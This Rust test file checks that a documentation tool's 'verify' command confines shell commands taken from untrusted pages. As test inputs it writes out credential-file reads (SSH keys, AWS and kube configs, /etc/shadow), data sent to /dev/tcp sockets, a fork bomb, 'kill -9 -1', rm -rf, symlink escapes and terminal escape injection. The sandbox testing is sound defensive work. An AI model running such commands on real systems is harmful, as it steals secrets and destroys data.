//! Pages that come from strangers: what their commands can't do, and that they are no pass.

use std::time::{Duration, Instant};

use docbuild::verify::model::{Report, Verdict};

use crate::support::{Need, SiteTest, skip};

#[test]
fn what_the_site_sets_up_is_there_before_each_page() {
    let setup = "[verify.setup]\nenv = { GREETING = \"it's here\" }\nallow-env = [\"DOCBUILD_TEST_ALLOWED\"]\nrun = [\"echo made > file\"]\n";
    let site = site(&["cat file", "echo \"$GREETING $DOCBUILD_TEST_ALLOWED ${DOCBUILD_TEST_OTHER:-}.\""]);
    let book = site.read("book.toml");
    site.write("book.toml", format!("{book}{setup}"));
    let mut command = site.command();
    command.args(["verify", "--cluster", "none", "--report", "json=report.json", "content/en/page.md"]);
    command.env("DOCBUILD_TEST_ALLOWED", "allowed").env("DOCBUILD_TEST_OTHER", "not");
    site.finish(command).code(0);
    let report: Report = serde_json::from_str(&site.read("report.json")).unwrap();
    let said: Vec<&str> = report.pages[0].blocks.iter().map(|block| block.commands[0].stdout.as_str()).collect();
    assert_eq!(said, ["made\n", "it's here allowed .\n"]);
    site.write("book.toml", format!("{book}[verify.setup]\nrun = [\"false\"]\n"));
    let failed = site.run("verify --cluster none --report text content/en/page.md").code(3);
    assert!(failed.stdout.contains("`false` of verify.setup failed"), "{}", failed.stdout);
}

/// A site with one page, each command in a block of its own.
fn site(commands: &[&str]) -> SiteTest {
    let blocks: String = commands.iter().map(|command| format!("Run it:\n\n```bash\n{command}\n```\n\n")).collect();
    SiteTest::small().file("content/en/page.md", format!("---\ntitle: Page\n---\n\n{blocks}"))
}

/// The verdict of each command, and what it printed.
fn verified(commands: &[&str]) -> Vec<(Verdict, String)> {
    let site = site(commands);
    let begun = Instant::now();
    site.run("verify --cluster none --timeout 3s --report json=report.json content/en/page.md");
    assert!(begun.elapsed() < Duration::from_secs(100), "it took {:?}", begun.elapsed());
    let report: Report = serde_json::from_str(&site.read("report.json")).unwrap();
    let commands = report.pages[0].blocks.iter().flat_map(|block| &block.commands);
    commands.map(|command| (command.verdict.unwrap(), format!("{}{}", command.stdout, command.stderr))).collect()
}

#[test]
fn nothing_outside_of_the_page_is_written_or_read() {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret");
    std::fs::write(&secret, "top secret\n").unwrap();
    let file = secret.display();
    let commands = [format!("cat {file}"), format!("echo x > {file}"), format!("rm -rf {}", outside.path().display())];
    let ran = verified(&commands.iter().map(String::as_str).collect::<Vec<_>>());
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "top secret\n");
    assert!(ran.iter().all(|(_, printed)| !printed.contains("top secret")), "{ran:?}");
    assert_ne!(ran[0].0, Verdict::Pass);
    assert_ne!(ran[1].0, Verdict::Pass);
}

#[test]
fn a_page_that_ends_its_shell_floods_or_waits_holds_nothing_up() {
    let ran = verified(&["read answer", "head -c 50000000 /dev/zero", "echo 'open", "exit 3", "echo after"]);
    let verdicts: Vec<Verdict> = ran.iter().map(|(verdict, _)| *verdict).collect();
    assert_eq!(verdicts[0], Verdict::Fail, "nobody answers");
    assert!(ran[1].1.len() < 5 << 20, "{} bytes are kept", ran[1].1.len());
    assert_ne!(verdicts[2], Verdict::Pass, "a quote that is open is a mistake");
    assert_ne!(verdicts[3], Verdict::Pass);
    assert_eq!((verdicts[4], ran[4].1.as_str()), (Verdict::Pass, "after\n"));
}

#[test]
fn what_a_page_wants_of_the_user_is_not_there() {
    if !confined() {
        return;
    }
    let ran = verified(&[
        "cat ~/.ssh/id_rsa ~/.kube/config ~/.docker/config.json ~/.aws/credentials",
        "ls /root /home",
        "env | sort",
        "cat /etc/shadow",
        "export KUBECONFIG=/root/.kube/config; cat $KUBECONFIG",
    ]);
    assert_eq!(ran[0].0, Verdict::Fail, "there are no such files: {ran:?}");
    assert!(!ran[1].1.contains(".ssh") && !ran[1].1.contains("root:"), "{ran:?}");
    // What the user's shell has set stays with the user.
    let kept = ["HOME=/home/user", "PATH=", "TERM=dumb"];
    assert!(kept.iter().all(|one| ran[2].1.contains(one)), "{}", ran[2].1);
    assert!(!ran[2].1.contains("CARGO") && !ran[2].1.contains("SSH_"), "{}", ran[2].1);
    // It is no root, and sees nobody's home.
    for (verdict, said) in &ran[3..] {
        assert_eq!(*verdict, Verdict::Skip, "{ran:?}");
        assert!(said.contains("Permission denied") || said.contains("No such file"), "{ran:?}");
    }
}

#[test]
fn processes_without_end_stay_within_their_bound_and_go_with_the_page() {
    if !confined() {
        return;
    }
    // A loop that forks as fast as it can, one that leaves its session, and one that wants all ended.
    let ran = verified(&[
        "bomb() { bomb | bomb & }; bomb; sleep 1",
        "setsid nohup sleep 87654 >/dev/null 2>&1 & disown; echo started",
        "kill -9 -1",
        "echo after",
    ]);
    assert_ne!(ran[2].0, Verdict::Pass, "it has ended its own shell: {ran:?}");
    assert_eq!(ran[3], (Verdict::Pass, "after\n".to_owned()), "{ran:?}");
    let begun = Instant::now();
    while process_with(b"sleep\x0087654\x00") {
        assert!(begun.elapsed() < Duration::from_secs(10), "a process outlived its page");
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn nobody_is_reached_from_a_page_without_a_cluster() {
    if !confined() {
        return;
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let ran = verified(&[
        &format!("echo secret > /dev/tcp/127.0.0.1/{port}"),
        "echo secret > /dev/udp/192.0.2.1/53",
        &format!("curl -sS --max-time 2 http://127.0.0.1:{port}/"),
    ]);
    assert!(ran.iter().all(|(verdict, _)| *verdict != Verdict::Pass), "{ran:?}");
    assert!(listener.accept().is_err(), "somebody was reached");
}

#[test]
fn what_a_page_prints_drives_no_terminal_and_ends_no_command() {
    let ran = verified(&[
        r"printf '\033]0;owned\007\033[2J\033[31m'",
        r"printf '\036docbuild 0\036\n\036'; false",
        "printf 'a\\rb\\n'",
    ]);
    assert_eq!(ran[1].0, Verdict::Fail, "an end mark that the page makes up ends nothing");
    let site = site(&[r"printf '\033]0;owned\007\033[2J'; false"]);
    for kind in ["text", "junit", "github"] {
        let shown = site.run(&format!("verify --cluster none --report {kind} content/en/page.md"));
        let both = format!("{}{}", shown.stdout, shown.stderr);
        assert!(!both.contains('\u{1b}') && !both.contains('\u{7}'), "{kind}: {both:?}");
    }
}

#[test]
fn links_that_a_page_makes_lead_its_files_nowhere() {
    if !confined() {
        return;
    }
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().join("target");
    std::fs::write(&target, "untouched\n").unwrap();
    let page = format!(
        "---\ntitle: Page\n---\n\nRun it:\n\n```bash\nln -s {} x.yaml; ln -s {} sub\n```\n\nSave this as `x.yaml`:\n\n\
         ```yaml\na: b\n```\n\nRun it:\n\n```bash\ncat x.yaml\n```\n\nSave this as `sub/y.yaml`:\n\n```yaml\na: b\n```\n\n\
         Run it:\n\n```bash\ncat sub/y.yaml\n```\n",
        target.display(),
        outside.path().display(),
    );
    let site = SiteTest::small().file("content/en/page.md", page);
    site.run("verify --cluster none --timeout 3s --report json=report.json content/en/page.md");
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "untouched\n");
    assert!(!outside.path().join("y.yaml").exists(), "a file was written outside");
}

#[cfg(target_os = "linux")]
#[test]
fn an_interrupted_run_leaves_no_process_and_no_folder() {
    use std::io::{BufRead as _, BufReader};

    let site = site(&["sleep 98765"]);
    let temporary = site.root().join("tmp");
    std::fs::create_dir(&temporary).unwrap();
    let mut command = site.command();
    command.args(["verify", "--cluster", "none", "content/en/page.md"]).env("TMPDIR", &temporary);
    let mut child = command.stderr(std::process::Stdio::piped()).stdout(std::process::Stdio::null()).spawn().unwrap();
    // The command is named before it is run.
    let mut lines = BufReader::new(child.stderr.take().unwrap()).lines().map_while(Result::ok);
    assert!(lines.any(|line| line.ends_with("sleep 98765")));
    let pid = rustix::process::Pid::from_raw(i32::try_from(child.id()).unwrap()).unwrap();
    rustix::process::kill_process(pid, rustix::process::Signal::INT).unwrap();
    assert_eq!(child.wait().unwrap().code(), Some(130));
    let begun = Instant::now();
    let left = || std::fs::read_dir(&temporary).unwrap().count() > 0 || sleeps();
    while left() {
        assert!(begun.elapsed() < Duration::from_secs(10), "something is left");
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[cfg(target_os = "linux")]
#[test]
fn an_interrupted_run_reports_the_pages_that_were_over() {
    use std::io::{BufRead as _, BufReader};

    let site = site(&["echo over"]);
    site.write("content/en/second.md", "---\ntitle: Second\n---\n\nRun it:\n\n```bash\nsleep 87654\n```\n");
    site.write("whole.json", "a recording of before");
    let mut command = site.command();
    command.args(["verify", "--cluster", "none", "--report", "json=report.json", "--record", "whole.json"]);
    command.args(["content/en/page.md", "content/en/second.md"]);
    let mut child = command.stderr(std::process::Stdio::piped()).stdout(std::process::Stdio::null()).spawn().unwrap();
    let mut lines = BufReader::new(child.stderr.take().unwrap()).lines().map_while(Result::ok);
    assert!(lines.any(|line| line.ends_with("sleep 87654")));
    let pid = rustix::process::Pid::from_raw(i32::try_from(child.id()).unwrap()).unwrap();
    rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
    let said: Vec<String> = lines.collect();
    assert_eq!(child.wait().unwrap().code(), Some(130));
    assert!(said.iter().any(|line| line.starts_with("error: interrupted")), "{said:?}");
    let report: Report = serde_json::from_str(&site.read("report.json")).unwrap();
    let commands: Vec<_> = report.pages.iter().map(|page| &page.blocks[0].commands[0]).collect();
    assert_eq!((commands[0].verdict, commands[0].stdout.as_str()), (Some(Verdict::Pass), "over\n"));
    assert_eq!(commands[1].verdict, Some(Verdict::Skip));
    assert_eq!(commands[1].reason.as_deref(), Some("the run was interrupted"));
    // It says so, and is no shard of anything.
    assert!(report.interrupted);
    assert!(site.run("report merge report.json").code(2).stderr.contains("interrupted"));
    // Half a recording takes the place of no whole one.
    assert_eq!(site.read("whole.json"), "a recording of before");
}

#[cfg(target_os = "linux")]
#[test]
fn a_run_that_is_killed_takes_its_processes_with_it_and_the_next_one_its_folders() {
    if !confined() {
        return;
    }
    let site = site(&["sleep 76543", "echo done"]);
    let temporary = site.root().join("tmp");
    std::fs::create_dir(&temporary).unwrap();
    let sleeping = || process_with(b"sleep\x0076543\x00");
    // The early ones meet a run that removes what those before them left.
    for moment in (0..100).step_by(5).chain([150, 300, 600, 900, 1200]) {
        let mut command = site.command();
        command.args(["verify", "--cluster", "none", "content/en/page.md"]).env("TMPDIR", &temporary);
        let quiet = std::process::Stdio::null;
        let mut child = command.stderr(quiet()).stdout(quiet()).spawn().unwrap();
        std::thread::sleep(Duration::from_millis(moment));
        child.kill().unwrap();
        child.wait().unwrap();
        let begun = Instant::now();
        while sleeping() {
            assert!(begun.elapsed() < Duration::from_secs(10), "killed after {moment} ms, its page goes on");
            std::thread::sleep(Duration::from_millis(10));
        }
    }
    site.write("content/en/page.md", "---\ntitle: Page\n---\n\nRun it:\n\n```bash\necho done\n```\n");
    let mut command = site.command();
    command.args(["verify", "--cluster", "none", "content/en/page.md"]).env("TMPDIR", &temporary);
    site.finish(command).code(0);
    let left: Vec<_> = std::fs::read_dir(&temporary).unwrap().flatten().map(|entry| entry.file_name()).collect();
    assert!(left.is_empty(), "{left:?}");
}

/// Whether the page's command still runs.
#[cfg(target_os = "linux")]
fn sleeps() -> bool {
    process_with(b"sleep\x0098765\x00")
}

/// Whether a process has this command line.
fn process_with(line: &[u8]) -> bool {
    let processes = std::fs::read_dir("/proc").into_iter().flatten().flatten();
    processes.filter_map(|process| std::fs::read(process.path().join("cmdline")).ok()).any(|found| found == line)
}

/// Whether pages are confined on this machine; elsewhere an allow-list refuses what these tests try.
fn confined() -> bool {
    let confined = docbuild::verify::execute::open_doors(None).is_none();
    if !confined {
        skip(Need::Cluster, "commands are confined only on Linux, as root");
    }
    confined
}
